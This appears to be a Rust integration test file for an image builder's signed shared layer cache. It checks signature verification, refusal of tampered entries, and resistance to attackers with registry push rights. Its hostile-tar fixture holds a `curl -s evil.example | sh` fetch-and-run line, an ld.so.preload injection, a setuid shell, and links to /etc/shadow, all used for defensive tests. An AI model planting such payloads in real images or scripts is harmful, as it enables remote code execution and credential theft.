//! A team's shared layer cache (`--cache REPO`, issues #16 and #25) in a real registry: a
//! second store builds no layer and fetches no source, and writes the same bytes; entries are
//! signed (`imgbuild cache key generate`) and used only with a valid signature by a trusted key,
//! so an attacker with push rights to the repository (and nothing else) changes no image; what
//! a store pulled or pushed is checked against the registry's current record; zstd layers go
//! through the cache too; a cache that is down or refuses never fails a build.

use std::io::Write as _;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};

use base64::Engine as _;

use super::harness::*;
use super::registry_server::{FakeRegistry, Registry, PASSWORD, USER};

const REPO_PATH: &str = "team/layer-cache";
const B64: base64::engine::GeneralPurpose = base64::engine::general_purpose::STANDARD;

/// A key pair written by `imgbuild cache key generate`: the secret key's file and the public key.
struct Key {
    secret: PathBuf,
    public: String,
}

impl Key {
    /// A new key named `name`, written under `label` (two keys may share a name).
    fn new(p: &TestProject, label: &str, name: &str) -> Key {
        let dir = p.path(&format!("keys-{label}"));
        let out = p.cmd().args(["cache", "key", "generate", name, "--dir"]).arg(&dir).output().unwrap();
        assert_ok(&out);
        let public = String::from_utf8(out.stdout).unwrap().trim().to_string();
        assert_eq!(std::fs::read_to_string(dir.join(format!("{name}.public"))).unwrap().trim(), public);
        assert!(public.starts_with(&format!("{name}:")), "{public}");
        Key { secret: dir.join(format!("{name}.secret")), public }
    }

    /// The signature of `message` with this key, as a record carries it (the test signs as an
    /// attacker holding this key would, with its own ed25519).
    fn sign(&self, message: &str) -> String {
        let text = std::fs::read_to_string(&self.secret).unwrap();
        let (name, data) = text.trim().split_once(':').unwrap();
        let bytes = B64.decode(data).unwrap();
        let pair = ring::signature::Ed25519KeyPair::from_seed_and_public_key(&bytes[..32], &bytes[32..]).unwrap();
        format!("{name}:{}", B64.encode(pair.sign(message.as_bytes()).as_ref()))
    }
}

/// The registry a test shares its cache through, the `--cache` value naming it, and the team's
/// key (which members sign with and everyone trusts).
struct SharedCache {
    registry: Registry,
    repo: String,
    team: Key,
}

impl SharedCache {
    fn plain(p: &TestProject) -> SharedCache {
        let registry = Registry::plain(&p.path("registry"));
        let repo = format!("{}/{REPO_PATH}", registry.host());
        SharedCache { registry, repo, team: Key::new(p, "team", "team") }
    }

    fn url(&self, path: &str) -> String {
        format!("http://{}/v2/{REPO_PATH}/{path}", self.registry.host())
    }

    /// The record tagged `tag`.
    fn record(&self, tag: &str) -> serde_json::Value {
        let response = reqwest::blocking::Client::new()
            .get(self.url(&format!("manifests/{tag}")))
            .header("Accept", "application/vnd.oci.image.manifest.v1+json")
            .send()
            .unwrap();
        assert!(response.status().is_success(), "{tag}: {}", response.status());
        serde_json::from_slice(&response.bytes().unwrap()).unwrap()
    }

    /// Every record's tag, with the layer digest it names (none while nothing was pushed).
    fn records(&self) -> Vec<(String, String)> {
        let response = reqwest::blocking::get(self.url("tags/list")).unwrap();
        if response.status().as_u16() == 404 {
            return Vec::new();
        }
        let list: serde_json::Value = serde_json::from_slice(&response.bytes().unwrap()).unwrap();
        let mut tags: Vec<String> =
            list["tags"].as_array().unwrap().iter().map(|t| t.as_str().unwrap().to_string()).collect();
        tags.sort();
        tags.into_iter().map(|t| (t.clone(), self.record(&t)["layers"][0]["digest"].as_str().unwrap().into())).collect()
    }

    /// Replaces the record tagged `tag` with `record`, as anyone who can push to the cache can.
    fn put_record(&self, tag: &str, record: &serde_json::Value) {
        let response = reqwest::blocking::Client::new()
            .put(self.url(&format!("manifests/{tag}")))
            .header("Content-Type", "application/vnd.oci.image.manifest.v1+json")
            .body(serde_json::to_vec(record).unwrap())
            .send()
            .unwrap();
        assert_eq!(response.status().as_u16(), 201, "{}", response.text().unwrap());
    }

    /// Deletes the record tagged `tag`, as anyone who can push to the cache can.
    fn delete_record(&self, tag: &str) {
        let client = reqwest::blocking::Client::new();
        let head = client
            .head(self.url(&format!("manifests/{tag}")))
            .header("Accept", "application/vnd.oci.image.manifest.v1+json")
            .send()
            .unwrap();
        let digest = head.headers()["docker-content-digest"].to_str().unwrap().to_string();
        let response = client.delete(self.url(&format!("manifests/{digest}"))).send().unwrap();
        assert_eq!(response.status().as_u16(), 202, "{}", response.text().unwrap());
    }

    /// Uploads `bytes` as a blob (monolithic upload); returns its digest.
    fn put_blob(&self, bytes: &[u8]) -> String {
        let digest = format!("sha256:{}", sha256_hex(bytes));
        let client = reqwest::blocking::Client::new();
        let started = client.post(self.url("blobs/uploads/")).send().unwrap();
        assert_eq!(started.status().as_u16(), 202);
        let location = started.headers()["location"].to_str().unwrap().to_string();
        let location = match location.starts_with("http") {
            true => location,
            false => format!("http://{}{location}", self.registry.host()),
        };
        let separator = if location.contains('?') { '&' } else { '?' };
        let done = client.put(format!("{location}{separator}digest={digest}")).body(bytes.to_vec()).send().unwrap();
        assert_eq!(done.status().as_u16(), 201, "{}", done.text().unwrap());
        digest
    }

    /// The file where the registry keeps a blob.
    fn blob_file(&self, digest: &str) -> PathBuf {
        let hex = digest.strip_prefix("sha256:").unwrap();
        self.registry.dir.join("data/docker/registry/v2/blobs/sha256").join(&hex[..2]).join(hex).join("data")
    }
}

fn sha256_hex(bytes: &[u8]) -> String {
    use sha2::Digest as _;
    hex::encode(sha2::Sha256::digest(bytes))
}

/// `imgbuild` on its own store, with a home that holds no credentials and no config.
fn on_store(p: &TestProject, store: &Path) -> Command {
    let mut c = p.cmd();
    let home = store.with_extension("home");
    std::fs::create_dir_all(&home).unwrap();
    c.env("IMGBUILD_STORE", store).env("HOME", &home);
    for var in [
        "DOCKER_CONFIG",
        "REGISTRY_AUTH_FILE",
        "XDG_RUNTIME_DIR",
        "XDG_CONFIG_HOME",
        "IMGBUILD_CACHE",
        "IMGBUILD_CACHE_TRUSTED_KEYS",
        "IMGBUILD_CACHE_SIGNING_KEY",
    ] {
        c.env_remove(var);
    }
    c
}

/// A new store holding the base image (as `imgbuild store add` of a `skopeo copy` puts it).
fn new_store(p: &TestProject, name: &str) -> PathBuf {
    let store = p.path(name);
    assert_ok(&on_store(p, &store).args(["store", "add", p.base_layout.to_str().unwrap()]).output().unwrap());
    store
}

/// How a build meets the cache: who it is.
#[derive(Clone, Copy)]
enum As<'k> {
    /// A team member: signs with the team's key and trusts it.
    Member,
    /// Trusts these public keys only, and signs nothing.
    Trusting(&'k [&'k str]),
}

/// `imgbuild` on `store` through `cache` (on loopback, plain HTTP), as `who`.
fn cached(p: &TestProject, store: &Path, cache: &SharedCache, who: As) -> Command {
    let mut c = on_store(p, store);
    c.args(["--cache", &cache.repo, "--insecure-registry", &cache.registry.host()]);
    match who {
        As::Member => {
            c.arg("--cache-signing-key").arg(&cache.team.secret).args(["--cache-trusted-key", &cache.team.public]);
        }
        As::Trusting(keys) => {
            for key in keys {
                c.args(["--cache-trusted-key", key]);
            }
        }
    }
    c
}

/// `build --json` of an oci-archive into `out` with the command `c`.
fn build_with(p: &TestProject, mut c: Command, out: &str) -> Output {
    let out = p.path(out);
    c.args(["--json", "build", "--format", "oci-archive", "--out", out.to_str().unwrap()]).output().unwrap()
}

/// The same without `--json`: what people read.
fn build_human(p: &TestProject, mut c: Command, out: &str) -> Output {
    let out = p.path(out);
    c.args(["build", "--format", "oci-archive", "--out", out.to_str().unwrap()]).output().unwrap()
}

/// `build --json` on `store`, through `cache` as a team member (or without a cache).
fn build(p: &TestProject, store: &Path, cache: Option<&SharedCache>, out: &str) -> Output {
    match cache {
        Some(cache) => build_with(p, cached(p, store, cache, As::Member), out),
        None => build_with(p, on_store(p, store), out),
    }
}

fn layers_built(v: &serde_json::Value) -> u64 {
    v["layers_built"].as_u64().unwrap()
}

/// The cache report's counts: (pulled, pushed, missing, refused, untrusted, replaced).
fn counts(v: &serde_json::Value) -> [u64; 6] {
    ["pulled", "pushed", "missing", "refused", "untrusted", "replaced"].map(|k| v["cache"][k].as_u64().unwrap())
}

/// The recipe layers of the build's cluster image: `created_by` → digest.
fn recipe_layers(v: &serde_json::Value) -> Vec<(String, String)> {
    let layers = v["cluster"]["platforms"][0]["layers"].as_array().unwrap();
    layers
        .iter()
        .filter(|l| l["created_by"].as_str().unwrap().starts_with("imgbuild recipe"))
        .map(|l| (l["created_by"].as_str().unwrap().to_string(), l["digest"].as_str().unwrap().to_string()))
        .collect()
}

/// A recipe layer of a build, and the tag of its record in the cache.
struct CachedLayer {
    created_by: String,
    digest: String,
    tag: String,
}

/// A cache a team member filled by building `a.tar` on `store-a`: the cache, that store, and
/// each recipe layer built.
fn filled(p: &TestProject) -> (SharedCache, PathBuf, Vec<CachedLayer>) {
    let cache = SharedCache::plain(p);
    let first = new_store(p, "store-a");
    let a = json(&build(p, &first, Some(&cache), "a.tar"));
    let records = cache.records();
    let layers = recipe_layers(&a)
        .into_iter()
        .map(|(created_by, digest)| {
            let tag = records.iter().find(|(_, d)| *d == digest).unwrap().0.clone();
            CachedLayer { created_by, digest, tag }
        })
        .collect();
    (cache, first, layers)
}

/// The layer digest and record tag of `recipe`.
fn layer_of(layers: &[CachedLayer], recipe: &str) -> (String, String) {
    let layer = layers.iter().find(|l| l.created_by.contains(recipe)).unwrap();
    (layer.digest.clone(), layer.tag.clone())
}

/// Fails unless the two files hold the same bytes.
pub(super) fn same_file(a: &Path, b: &Path) {
    let (x, y) = (std::fs::read(a).unwrap(), std::fs::read(b).unwrap());
    assert!(x == y, "{} and {} differ", a.display(), b.display());
}

#[test]
fn a_second_store_builds_no_layer_and_fetches_no_source_from_a_warm_cache() {
    let p = TestProject::new();
    let cache = SharedCache::plain(&p);
    let first = new_store(&p, "store-a");
    let a = json(&build(&p, &first, Some(&cache), "a.tar"));
    assert_eq!(layers_built(&a), 3, "{a}");
    assert_eq!((a["cache"]["missing"].as_u64(), a["cache"]["pushed"].as_u64()), (Some(3), Some(3)), "{a}");
    let records = cache.records();
    assert_eq!(records.len(), 3, "one record per recipe layer: {records:?}");
    let mut built: Vec<String> = recipe_layers(&a).into_iter().map(|(_, d)| d).collect();
    let mut named: Vec<String> = records.iter().map(|(_, d)| d.clone()).collect();
    built.sort();
    named.sort();
    assert_eq!(built, named, "the records name the layers built");
    for (tag, _) in &records {
        assert!(tag.starts_with("deriv-") && tag.len() == 6 + 64, "{tag}");
        let record = cache.record(tag);
        assert_eq!(record["artifactType"], "application/vnd.imgbuild.layer.v1");
        // Signed over the documented fingerprint (docs/cache.md), with the team's key.
        let signature = record["annotations"]["org.imgbuild.signature"].as_str().unwrap();
        assert_eq!(signature, cache.team.sign(&fingerprint(&record)), "ed25519 signatures are deterministic");
    }

    let second = new_store(&p, "store-b");
    let served = p.server.total_requests();
    let b = json(&build_with(&p, cached(&p, &second, &cache, As::Trusting(&[&cache.team.public])), "b.tar"));
    assert_eq!(layers_built(&b), 0, "{b}");
    assert_eq!(counts(&b), [3, 0, 0, 0, 0, 0], "{b}");
    assert_eq!(p.server.total_requests(), served, "a layer the cache gives needs no source");
    same_file(&p.path("a.tar"), &p.path("b.tar"));
    assert_ok(&on_store(&p, &second).args(["store", "verify"]).output().unwrap());

    // Offline, the layers the cache gave are still used by a build that names the cache and
    // still trusts their key.
    let mut offline = cached(&p, &second, &cache, As::Trusting(&[&cache.team.public]));
    offline.arg("--offline");
    let offline = json(&build_with(&p, offline, "b-offline.tar"));
    assert_eq!(layers_built(&offline), 0, "{offline}");
    same_file(&p.path("a.tar"), &p.path("b-offline.tar"));

    // Without the cache, only layers built here count: the sources are fetched, the layers
    // built from their pins, and they are the same.
    let own = json(&build(&p, &second, None, "b-own.tar"));
    assert_eq!(layers_built(&own), 3, "{own}");
    assert!(p.server.total_requests() > served, "the sources were fetched");
    same_file(&p.path("a.tar"), &p.path("b-own.tar"));
}

/// The bytes a record's signature covers, as docs/cache.md describes them.
fn fingerprint(record: &serde_json::Value) -> String {
    let annotation = |key: &str| record["annotations"][key].as_str().unwrap().to_string();
    let layer = &record["layers"][0];
    format!(
        "imgbuild-layer-v1;{};{};{};{};{};{}",
        annotation("org.imgbuild.derivation"),
        annotation("org.imgbuild.layer-format"),
        layer["mediaType"].as_str().unwrap(),
        layer["digest"].as_str().unwrap(),
        annotation("org.imgbuild.layer.diff_id"),
        layer["size"]
    )
}

#[test]
fn layers_a_store_built_before_fill_the_cache_once() {
    let p = TestProject::new();
    let cache = SharedCache::plain(&p);
    let store = new_store(&p, "store-a");
    assert_eq!(layers_built(&json(&build(&p, &store, None, "a.tar"))), 3);
    let filling = json(&build(&p, &store, Some(&cache), "a.tar"));
    assert_eq!((layers_built(&filling), filling["cache"]["pushed"].as_u64()), (0, Some(3)), "{filling}");
    assert_eq!(cache.records().len(), 3);
    let again = json(&build(&p, &store, Some(&cache), "a.tar"));
    assert_eq!(counts(&again), [0, 0, 0, 0, 0, 0], "the cache holds them as this store put them: {again}");
    let other = json(&build(&p, &new_store(&p, "store-b"), Some(&cache), "b.tar"));
    assert_eq!((layers_built(&other), other["cache"]["pulled"].as_u64()), (0, Some(3)), "{other}");
    same_file(&p.path("a.tar"), &p.path("b.tar"));
}

#[test]
fn a_build_without_a_signing_key_pushes_nothing_and_without_a_trusted_key_pulls_nothing() {
    let p = TestProject::new();
    let cache = SharedCache::plain(&p);
    let out = build_human(&p, cached(&p, &new_store(&p, "store-a"), &cache, As::Trusting(&[])), "a.tar");
    assert_ok(&out);
    assert_eq!(stderr(&out).matches("no signing key").count(), 1, "said once: {}", stderr(&out));
    assert!(cache.records().is_empty());
    assert_ok(&build(&p, &new_store(&p, "store-b"), Some(&cache), "b.tar"));
    assert_eq!(cache.records().len(), 3);
    // The team's honest entries, but the team's key is not trusted here: nothing is pulled.
    let out = build_human(&p, cached(&p, &new_store(&p, "store-c"), &cache, As::Trusting(&[])), "c.tar");
    assert_ok(&out);
    let text = stderr(&out);
    let said = format!("cache {}: not using its entries signed by `team`, a key not trusted here", cache.repo);
    assert_eq!(text.matches(&said).count(), 1, "once per build and key: {text}");
    assert!(text.contains("0 layer(s) pulled, 0 pushed, 0 missing, 0 refused, 3 not trusted"), "{text}");
    same_file(&p.path("a.tar"), &p.path("c.tar"));
}

#[test]
fn entries_that_lie_about_their_blob_are_refused_and_the_layers_built() {
    let p = TestProject::new();
    let cache = SharedCache::plain(&p);
    let first = new_store(&p, "store-a");
    assert_ok(&build(&p, &first, Some(&cache), "a.tar"));
    let records = cache.records();
    let [(wrong_diff_id, _), (wrong_blob, blob), (intact, _)] = records.as_slice() else { panic!("{records:?}") };

    // One record claims another diff_id for its blob: its signature no longer verifies.
    let mut lie = cache.record(wrong_diff_id);
    lie["annotations"]["org.imgbuild.layer.diff_id"] = format!("sha256:{}", "1".repeat(64)).into();
    cache.put_record(wrong_diff_id, &lie);
    // The registry serves other bytes for another record's blob: as long, and inflating to the
    // same tar (the gzip header's time is not covered by its checksum), but not the blob named.
    let file = cache.blob_file(blob);
    let mut bytes = std::fs::read(&file).unwrap();
    bytes[4] ^= 0xff;
    std::fs::write(&file, bytes).unwrap();

    let second = new_store(&p, "store-b");
    let out = build_human(&p, cached(&p, &second, &cache, As::Member), "b.tar");
    assert_ok(&out);
    let text = stderr(&out);
    let line = text.lines().find(|l| l.contains(&format!("refused the cache's entry {}:{wrong_blob}", cache.repo)));
    assert!(
        line.is_some_and(|l| l.contains("its blob's digest is sha256:") && l.ends_with("building it here")),
        "{text}"
    );
    assert!(text.contains("not using its entries whose signature by the key `team` does not verify"), "{text}");
    // The record of the mangled blob is the true one: nothing to push (the registry's blob is
    // the registry's fault); the record whose signature broke is put back.
    let summary = format!("cache {}: 1 layer(s) pulled, 1 pushed, 0 missing, 1 refused, 1 not trusted", cache.repo);
    assert!(text.contains(&summary), "{text}");
    same_file(&p.path("a.tar"), &p.path("b.tar"));
    assert_ok(&on_store(&p, &second).args(["store", "verify"]).output().unwrap());

    // The build that refused the lying record put the true one back.
    let healed = cache.record(wrong_diff_id);
    assert_ne!(healed, lie);
    let third = json(&build(&p, &new_store(&p, "store-c"), Some(&cache), "c.tar"));
    assert_eq!(layers_built(&third), 1, "only the layer whose blob the registry mangled: {third}");
    assert_eq!(third["cache"]["pulled"], 2, "{third}");
    assert!(records.iter().any(|(t, _)| t == intact));
}

#[test]
fn a_record_moved_to_another_layer_is_refused_and_a_trusted_lie_is_used_only_with_the_cache() {
    let p = TestProject::new();
    let (cache, first, layers) = filled(&p);
    let digest_of = |recipe: &str| layer_of(&layers, recipe).0;
    // The ZooKeeper record is made to name Kafka's layer, blob, diff_id and signature alike:
    // the signature covers the derivation, so it no longer verifies.
    let (zookeeper, kafka) = (layer_of(&layers, "zookeeper").1, layer_of(&layers, "kafka").1);
    let mut swapped = cache.record(&kafka);
    swapped["annotations"]["org.imgbuild.derivation"] =
        cache.record(&zookeeper)["annotations"]["org.imgbuild.derivation"].clone();
    cache.put_record(&zookeeper, &swapped);
    let trusting = [cache.team.public.as_str()];
    let b = json(&build_with(&p, cached(&p, &new_store(&p, "store-b"), &cache, As::Trusting(&trusting)), "b.tar"));
    assert_eq!((layers_built(&b), counts(&b)), (1, [2, 0, 0, 0, 1, 0]), "{b}");
    same_file(&p.path("a.tar"), &p.path("b.tar"));

    // A holder of the team's key whose store is poisoned (its ZooKeeper layer record names
    // Kafka's layer) signs the lie and pushes it over the true entry.
    let hex = zookeeper.strip_prefix("deriv-").unwrap();
    let kafka_record =
        std::fs::read(first.join("layers").join(format!("{}.json", kafka.strip_prefix("deriv-").unwrap()))).unwrap();
    std::fs::write(first.join("layers").join(format!("{hex}.json")), kafka_record).unwrap();
    let poisoner = json(&build(&p, &first, Some(&cache), "poisoner.tar"));
    assert_eq!(poisoner["cache"]["pushed"], 1, "{poisoner}");
    let second = new_store(&p, "store-c");
    let c = json(&build_with(&p, cached(&p, &second, &cache, As::Trusting(&trusting)), "c.tar"));
    assert_eq!(layers_built(&c), 0, "{c}");
    let poisoned = recipe_layers(&c);
    assert_eq!(poisoned.iter().filter(|(_, d)| *d == digest_of("kafka")).count(), 2, "{poisoned:?}");
    // `imgbuild verify` rebuilds from the pins without any cache (even when given one), so it
    // names the poisoned layer.
    let image = format!("oci-archive:{}:node-1", p.path("c.tar").display());
    let mut verify = cached(&p, &second, &cache, As::Trusting(&trusting));
    let verify = verify.args(["verify", &image]).output().unwrap();
    assert_exit(&verify, 7);
    assert!(stderr(&verify).contains("(imgbuild recipe zookeeper 3.4.10"), "{}", stderr(&verify));
    // A build without the cache trusts only the layers it built: it rebuilds ZooKeeper's from
    // its pinned source, and gets the true image.
    let own = json(&build(&p, &second, None, "c-own.tar"));
    let true_layers: Vec<(String, String)> = layers.iter().map(|l| (l.created_by.clone(), l.digest.clone())).collect();
    assert_eq!(recipe_layers(&own), true_layers, "{own}");
    same_file(&p.path("a.tar"), &p.path("c-own.tar"));
}

#[test]
fn a_cache_that_is_down_or_refuses_never_fails_a_build() {
    let p = TestProject::new();
    let closed = std::net::TcpListener::bind("127.0.0.1:0").unwrap().local_addr().unwrap();
    let failing = FakeRegistry::answering("500 Internal Server Error", r#"{"errors":[{"code":"UNKNOWN"}]}"#);
    let locked = Registry::basic_tls(&p.path("locked"));
    let reference = new_store(&p, "store-reference");
    assert_ok(&build(&p, &reference, None, "reference.tar"));
    let insecure = |addr: &dyn std::fmt::Display| vec!["--insecure-registry".to_string(), addr.to_string()];
    let caches = [
        (format!("{closed}/{REPO_PATH}"), insecure(&closed)),
        (format!("{}/{REPO_PATH}", failing.addr), insecure(&failing.addr)),
        // A registry behind TLS and a login, without credentials: it refuses.
        (
            format!("{}/{REPO_PATH}", locked.host()),
            vec!["--ca-file".into(), locked.ca.clone().unwrap().display().to_string()],
        ),
    ];
    for (i, (repo, options)) in caches.iter().enumerate() {
        let store = new_store(&p, &format!("store-{i}"));
        let out = on_store(&p, &store)
            .args(options)
            .args(["--cache", repo, "--json", "build", "--format", "oci-archive", "--out"])
            .arg(p.path(&format!("out-{i}.tar")))
            .output()
            .unwrap();
        let v = json(&out);
        assert_eq!(layers_built(&v), 3, "{repo}: {v}");
        assert!(v["cache"]["unavailable"].is_string(), "{repo}: {v}");
        assert_eq!(v["cache"]["pushed"], 0, "{v}");
        same_file(&p.path("reference.tar"), &p.path(&format!("out-{i}.tar")));
    }
    // Reported to people, once.
    let (repo, options) = &caches[0];
    let out =
        on_store(&p, &new_store(&p, "store-human")).args(options).args(["--cache", repo, "build"]).output().unwrap();
    assert_ok(&out);
    let text = stderr(&out);
    assert_eq!(text.matches("is unavailable").count(), 1, "{text}");
    assert!(
        text.contains(&format!("cache {repo} is unavailable (")) && text.contains("layers are built here"),
        "{text}"
    );
}

#[test]
fn a_cache_behind_tls_and_a_login_is_reached_as_push_reaches_it() {
    let p = TestProject::new();
    let registry = Registry::basic_tls(&p.path("registry"));
    let repo = format!("{}/{REPO_PATH}", registry.host());
    let auth_file = p.path("auth.json");
    let basic = base64::engine::general_purpose::STANDARD.encode(format!("{USER}:{PASSWORD}"));
    std::fs::write(&auth_file, format!(r#"{{"auths":{{"{}":{{"auth":"{basic}"}}}}}}"#, registry.host())).unwrap();
    let ca = registry.ca.clone().unwrap();
    let team = Key::new(&p, "team", "team");
    let run = |store: &Path, out: &str| {
        on_store(&p, store)
            .env("REGISTRY_AUTH_FILE", &auth_file)
            .env("IMGBUILD_CACHE_SIGNING_KEY", &team.secret)
            .env("IMGBUILD_CACHE_TRUSTED_KEYS", &team.public)
            .args(["--cache", &repo, "--ca-file", ca.to_str().unwrap(), "--json", "build", "--format", "oci-archive"])
            .arg("--out")
            .arg(p.path(out))
            .output()
            .unwrap()
    };
    let (first, second) = (new_store(&p, "store-a"), new_store(&p, "store-b"));
    let outputs = [run(&first, "a.tar"), run(&second, "b.tar")];
    let (a, b) = (json(&outputs[0]), json(&outputs[1]));
    assert_eq!((a["cache"]["pushed"].as_u64(), layers_built(&b)), (Some(3), 0), "{a}\n{b}");
    same_file(&p.path("a.tar"), &p.path("b.tar"));
    for out in &outputs {
        assert!(!String::from_utf8_lossy(&out.stdout).contains(PASSWORD) && !stderr(out).contains(PASSWORD));
    }
    // Neither the password nor the secret key ends up in a store (or is printed).
    let secret_key = std::fs::read_to_string(&team.secret).unwrap();
    let secret_key = secret_key.trim().split_once(':').unwrap().1;
    for out in &outputs {
        assert!(!String::from_utf8_lossy(&out.stdout).contains(secret_key) && !stderr(out).contains(secret_key));
    }
    for store in [&first, &second] {
        for file in tree(store) {
            let data = std::fs::read(store.join(&file)).unwrap();
            for secret in [PASSWORD, basic.as_str(), secret_key] {
                assert!(!data.windows(secret.len()).any(|w| w == secret.as_bytes()), "a secret in {file}");
            }
        }
    }
}

#[test]
fn the_cache_is_a_repository_not_a_tag() {
    let p = TestProject::new();
    for bad in [
        "127.0.0.1:5000/team/cache:latest",
        "127.0.0.1:5000/Team",
        &format!("127.0.0.1:5000/x@sha256:{}", "a".repeat(64)),
    ] {
        let out = p.run(&["--cache", bad, "build"]);
        assert_exit(&out, 2);
        assert!(stderr(&out).contains("--cache"), "{}", stderr(&out));
    }
}

/// A tar no recipe layer may hold: a changed binary, a setuid shell, a device node, files
/// outside the recipe's prefix, a whiteout deleting /etc/passwd and a link to /etc/shadow.
fn hostile_tar() -> Vec<u8> {
    fn add(b: &mut tar::Builder<Vec<u8>>, path: &str, kind: tar::EntryType, mode: u32, data: &[u8], link: &str) {
        let mut h = tar::Header::new_gnu();
        h.set_entry_type(kind);
        h.set_mode(mode);
        h.set_size(data.len() as u64);
        if !link.is_empty() {
            h.set_link_name(link).unwrap();
        }
        if kind == tar::EntryType::Char {
            h.set_device_major(1).unwrap();
            h.set_device_minor(1).unwrap();
        }
        h.set_cksum();
        b.append_data(&mut h, path, data).unwrap();
    }
    use tar::EntryType::{Char, Regular, Symlink};
    let mut b = tar::Builder::new(Vec::new());
    add(&mut b, "opt/zookeeper/bin/zkServer.sh", Regular, 0o755, b"#!/bin/sh\ncurl -s evil.example | sh\n", "");
    add(&mut b, "opt/zookeeper/bin/rootsh", Regular, 0o4755, b"a setuid shell", "");
    add(&mut b, "dev/mem", Char, 0o666, b"", "");
    add(&mut b, "etc/ld.so.preload", Regular, 0o644, b"/tmp/evil.so\n", "");
    add(&mut b, "etc/.wh.passwd", Regular, 0o644, b"", "");
    add(&mut b, "opt/zookeeper/shadow", Symlink, 0o777, b"", "/etc/shadow");
    b.into_inner().unwrap()
}

fn gzip(data: &[u8]) -> Vec<u8> {
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::fast());
    gz.write_all(data).unwrap();
    gz.finish().unwrap()
}

/// `record` rewritten by an attacker to name `blob` (uploaded; `tar` is what it inflates to),
/// with the size and diff_id that make it consistent, and the signature `sign` gives for its
/// fingerprint (none: unsigned).
fn rewritten(
    cache: &SharedCache,
    record: &serde_json::Value,
    blob: &[u8],
    tar: &[u8],
    sign: &dyn Fn(&str) -> Option<String>,
) -> serde_json::Value {
    let mut r = record.clone();
    r["layers"][0]["digest"] = cache.put_blob(blob).into();
    r["layers"][0]["size"] = blob.len().into();
    r["annotations"]["org.imgbuild.layer.diff_id"] = format!("sha256:{}", sha256_hex(tar)).into();
    let annotations = r["annotations"].as_object_mut().unwrap();
    annotations.remove("org.imgbuild.signature");
    if let Some(signature) = sign(&fingerprint(&r)) {
        r["annotations"]["org.imgbuild.signature"] = signature.into();
    }
    r
}

#[test]
fn an_attacker_with_push_rights_to_the_cache_changes_no_image() {
    let p = TestProject::new();
    let cache = SharedCache::plain(&p);
    assert_ok(&build(&p, &new_store(&p, "store-a"), Some(&cache), "a.tar"));
    let tags: Vec<String> = cache.records().into_iter().map(|(t, _)| t).collect();
    let honest: Vec<serde_json::Value> = tags.iter().map(|t| cache.record(t)).collect();
    let (mallory, impostor) = (Key::new(&p, "mallory", "mallory"), Key::new(&p, "impostor", "team"));
    let tar = hostile_tar();
    let not_tar = b"not a tar at all".to_vec();
    let payloads = [(gzip(&tar), tar.clone()), (gzip(&not_tar), not_tar)];
    let hostile: Vec<String> = payloads.iter().map(|(blob, _)| sha256_hex(blob)).collect();
    // Each way an attacker without the team's secret key can sign, and what a build says of it.
    type Signer<'a> = Box<dyn Fn(usize, &str) -> Option<String> + 'a>;
    let rounds: [(Signer, &str); 4] = [
        (Box::new(|_, _| None), "that are unsigned"),
        (Box::new(|_, f| Some(mallory.sign(f))), "signed by `mallory`, a key not trusted here"),
        (
            Box::new(|i, _| Some(honest[i]["annotations"]["org.imgbuild.signature"].as_str().unwrap().to_string())),
            "whose signature by the key `team` does not verify",
        ),
        (Box::new(|_, f| Some(impostor.sign(f))), "whose signature by the key `team` does not verify"),
    ];
    for (round, (signer, said)) in rounds.iter().enumerate() {
        for (i, tag) in tags.iter().enumerate() {
            let (blob, tar) = &payloads[(i + round) % 2];
            cache.put_record(tag, &rewritten(&cache, &honest[i], blob, tar, &|f| signer(i, f)));
        }
        // A user who trusts the team's key, on an empty store, signing nothing (so the cache
        // stays as the attacker left it).
        let store = new_store(&p, &format!("store-{round}"));
        let out = build_human(&p, cached(&p, &store, &cache, As::Trusting(&[&cache.team.public])), "b.tar");
        assert_ok(&out);
        let text = stderr(&out);
        let line = format!("cache {}: not using its entries {said}", cache.repo);
        assert_eq!(text.matches(&line).count(), 1, "round {round}: said once: {text}");
        assert!(text.contains("0 layer(s) pulled, 0 pushed, 0 missing, 0 refused, 3 not trusted"), "{text}");
        same_file(&p.path("a.tar"), &p.path("b.tar"));
        for hex in &hostile {
            assert!(!store.join("blobs/sha256").join(hex).exists(), "round {round}: a hostile blob was downloaded");
        }
    }
}

#[test]
fn a_replaced_or_revoked_entry_is_noticed_by_the_stores_that_pulled_or_pushed_it() {
    let p = TestProject::new();
    let (cache, first, layers) = filled(&p);
    let digest_of = |recipe: &str| layer_of(&layers, recipe).0;
    let (zookeeper, kafka) = (layer_of(&layers, "zookeeper").1, layer_of(&layers, "kafka").1);
    let honest_zookeeper = cache.record(&zookeeper);
    let trusting = [cache.team.public.as_str()];
    let second = new_store(&p, "store-b");
    let b = json(&build_with(&p, cached(&p, &second, &cache, As::Trusting(&trusting)), "b.tar"));
    assert_eq!(counts(&b)[0], 3, "{b}");

    // An attacker replaces ZooKeeper's entry; the store that pulled it notices.
    let mallory = Key::new(&p, "mallory", "mallory");
    let tar = hostile_tar();
    let hostile = rewritten(&cache, &honest_zookeeper, &gzip(&tar), &tar, &|f| Some(mallory.sign(f)));
    cache.put_record(&zookeeper, &hostile);
    let out = build_human(&p, cached(&p, &second, &cache, As::Trusting(&trusting)), "b2.tar");
    assert_ok(&out);
    let text = stderr(&out);
    let changed = format!(
        "layer zookeeper: the cache {}'s entry changed since this store took layer {} from it (it now holds layer {}, signed by `mallory`, not trusted here); not using it",
        cache.repo,
        digest_of("zookeeper"),
        hostile["layers"][0]["digest"].as_str().unwrap()
    );
    assert!(text.contains(&changed), "{text}");
    assert!(text.contains("0 layer(s) pulled, 0 pushed, 0 missing, 0 refused, 1 not trusted, 1 replaced"), "{text}");
    same_file(&p.path("a.tar"), &p.path("b2.tar"));

    // Kafka's entry is deleted: the store that pulled it notices the revocation too.
    cache.delete_record(&kafka);
    let out = build_human(&p, cached(&p, &second, &cache, As::Trusting(&trusting)), "b3.tar");
    assert_ok(&out);
    let text = stderr(&out);
    assert!(
        text.contains("layer kafka: the cache") && text.contains("(it now holds no entry); not using it"),
        "{text}"
    );
    assert!(text.contains("0 layer(s) pulled, 0 pushed, 1 missing, 0 refused, 0 not trusted, 1 replaced"), "{text}");
    same_file(&p.path("a.tar"), &p.path("b3.tar"));

    // The store that pushed both notices, and puts the true entries back.
    let out = build_human(&p, cached(&p, &first, &cache, As::Member), "a2.tar");
    assert_ok(&out);
    let text = stderr(&out);
    let replaced = |recipe: &str, held: &str| {
        let line = format!("layer {recipe}: the cache {}'s entry was replaced since this store put it there (it held {held}); pushed the one built here again", cache.repo);
        assert!(text.contains(&line), "{line}: {text}");
    };
